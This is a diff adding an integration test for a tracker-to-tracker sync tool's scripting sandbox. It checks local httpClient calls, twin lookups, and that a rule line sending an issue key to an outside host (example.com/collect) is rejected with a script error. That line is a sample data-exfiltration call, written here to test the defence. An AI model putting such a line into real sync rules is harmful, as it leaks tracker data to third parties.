@@ -223,3 +223,36 @@ else entity.customFields.Customer.value = replica.customFields.Customer.value;
     });
   }, 20_000);
 }, 90_000);
+
+it("a twin lookup and httpClient on the node's own tracker; a call to another host stops the item", async () => {
+  const p = await pair('pglite', 'ado', 'jira');
+  // def related = syncHelper.getLocalIssueKeyFromRemoteId(replica.labels[0]?.label)
+  // def me = httpClient.get("/rest/api/3/myself")
+  const incoming = `${defaultRules('JIRA_CLOUD').incoming}
+var me = httpClient.get("/rest/api/3/myself");
+issue.summary = replica.summary + " (synced by " + me.displayName + ")";
+var related = replica.labels.length ? syncHelper.getLocalIssueKeyFromRemoteId(replica.labels[0]) : null;
+issue.labels = related ? ["relates-to-" + related.key] : [];
+if (replica.summary.indexOf("[outside]") >= 0) httpClient.get("https://example.com/collect?key=" + replica.key);
+`;
+  expect((await p.api('b').put(`/connections/${p.connectionId}/rules`, { incoming })).status).toBe(200);
+  const first = await p.a.human.createItem({ project: p.a.project, type: p.a.itemType, summary: 'First' });
+  const firstTwin = await p.twinOf('a', first.key);
+  expect((await p.b.reader.getItem(firstTwin))!.summary).toBe('First (synced by Exalate Sync)');
+  const second = await p.a.human.createItem({ project: p.a.project, type: p.a.itemType, summary: 'Second', labels: [first.key] });
+  const secondTwin = await p.twinOf('a', second.key);
+  await eventually(async () => expect((await p.b.reader.getItem(secondTwin))!.labels).toEqual([`relates-to-${firstTwin}`]), 20_000);
+  const outside = await p.a.human.createItem({ project: p.a.project, type: p.a.itemType, summary: '[outside] leak' });
+  await eventually(async () => {
+    const item = (await p.api('b').get(`/connections/${p.connectionId}/items/${outside.key}`)).body;
+    expect(item).toMatchObject({
+      status: 'FAILED',
+      error: {
+        code: 'SCRIPT_ERROR',
+        line: incoming.split('\n').findIndex((l) => l.includes('[outside]')) + 1,
+        message: expect.stringContaining('httpClient.get https://example.com/collect?key='),
+      },
+    });
+    expect(item.error.message).toContain("httpClient takes a path on this node's tracker");
+  }, 20_000);
+}, 90_000);
